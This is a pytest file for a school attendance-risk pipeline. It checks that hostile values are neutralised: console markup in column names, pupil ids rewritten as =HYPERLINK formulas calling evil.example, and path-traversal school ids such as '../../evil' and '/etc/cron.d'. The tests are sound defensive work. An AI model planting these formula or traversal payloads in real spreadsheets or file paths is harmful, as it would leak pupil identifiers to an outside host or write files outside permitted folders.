"""Hostile values in an export: printed as plain text, never a path, never a live formula."""

from __future__ import annotations

import datetime as dt
import re
import shutil
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from pipelines.cli import app
from pipelines.steps.train import TrainReport
from pipelines.workspace import Workspace, WorkspaceError, inside, school_folder
from tests.conftest import TINY, score_dates, write_export

AS_OF = dt.date(2025, 3, 10)  # a school week (3 March is the spring holiday)

runner = CliRunner()


def test_column_names_with_console_markup_are_printed_as_plain_text(
    tmp_path: Path, workspace: Path
) -> None:
    enrolments = TINY["enrolments.csv"].splitlines()
    enrolments[0] += ";[/x];[link=https://evil.example]click[/link]"
    enrolments[1:] = [line + ";a;b" for line in enrolments[1:]]
    export = write_export(tmp_path / "e", {**TINY, "enrolments.csv": "\n".join(enrolments) + "\n"})
    result = runner.invoke(app, ["ingest", str(export), "--workspace", str(workspace)])
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.stderr
    assert "[link=https://evil.example]click[/link]" in result.stderr
    assert "enrolments: read 3 = accepted 3 + quarantined 0 + duplicates 0" in result.stdout


def _hostile_copy(ws: Workspace, root: Path) -> Path:
    """The trained board's workspace with a school id that climbs out of the outputs folder,
    and pupil ids that a spreadsheet would run as formulas."""
    shutil.copytree(ws.root, root, ignore=shutil.ignore_patterns(".lock", ".staging"))
    for path in (root / "canonical").glob("*.parquet"):
        frame = pl.read_parquet(path)
        if "school_id" in frame.columns:
            frame.with_columns(pl.col("school_id").replace({"SCH01": EVIL_SCHOOL})).write_parquet(
                path
            )
    ids = root / "secrets" / "identity_map.parquet"
    pl.read_parquet(ids).with_columns(
        pl.format('=HYPERLINK("http://evil.example/?{}","x")', pl.col("student_id")).alias(
            "student_id"
        )
    ).write_parquet(ids)
    return root


EVIL_SCHOOL = "../../evil"


def test_hostile_ids_neither_leave_the_outputs_folder_nor_become_formulas(
    trained_board: tuple[Workspace, TrainReport], tmp_path: Path
) -> None:
    ws = Workspace(_hostile_copy(trained_board[0], tmp_path / "deep" / "ws"))
    [path] = score_dates(ws, [AS_OF])

    written = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if "evil" in p.name}
    assert written == {f"deep/ws/outputs/{AS_OF}/{school_folder(EVIL_SCHOOL)}"}
    assert school_folder(EVIL_SCHOOL) == "evil-" + school_folder(EVIL_SCHOOL).split("-")[-1]
    lists = path.parent / school_folder(EVIL_SCHOOL)

    for csv in (path, lists / "risk_list.csv"):
        ids = [
            line.split(";")[1] for line in csv.read_text("utf-8").splitlines()[1:] if line.strip()
        ]
        assert ids and all(i.startswith("\"'=HYPERLINK(") for i in ids), csv.name

    sheet = openpyxl.load_workbook(lists / "risk_list.xlsx").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == "#")  # below the title
    pupils = [row[1] for row in sheet.iter_rows(min_row=header + 1)]
    assert pupils and all(
        c.data_type == "s" and str(c.value).startswith("=HYPERLINK(") for c in pupils
    )

    # Next week's list knows these pupils again: the inert CSV reads back as the ids it holds.
    week = AS_OF + dt.timedelta(weeks=1)
    [later] = score_dates(ws, [week])
    before = pl.read_csv(path, separator=";").filter(pl.col("listed"))["student_id"]
    now = pl.read_csv(later, separator=";").filter(pl.col("listed"))
    again = now.filter(pl.col("student_id").is_in(before.implode()))
    assert again.height and (again["change"] != "new").all()


@pytest.mark.parametrize(
    ("school_id", "folder"),
    [
        ("SCH01", "SCH01"),
        ("school_3-b", "school_3-b"),
        ("..", None),
        (".", None),
        ("../../x", None),
        ("/etc/cron.d", None),
        ("A/../B", None),
        ("C:\\x", None),
        ("a" * 65, None),
        ("école", None),
        ("x\x00y", None),
    ],
)
def test_every_school_id_gets_one_plain_folder_name(school_id: str, folder: str | None) -> None:
    name = school_folder(school_id)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,63}", name)
    if folder is not None:
        assert name == folder
    else:
        assert name != school_id and name.rsplit("-", 1)[1] != ""
    assert inside(Path("/tmp/outputs"), name) == Path("/tmp/outputs") / name


def test_a_name_that_resolves_elsewhere_is_refused(tmp_path: Path) -> None:
    for name in ("..", "../x", "a/b", "/etc"):
        with pytest.raises(WorkspaceError, match="refusing to write outside"):
            inside(tmp_path, name)
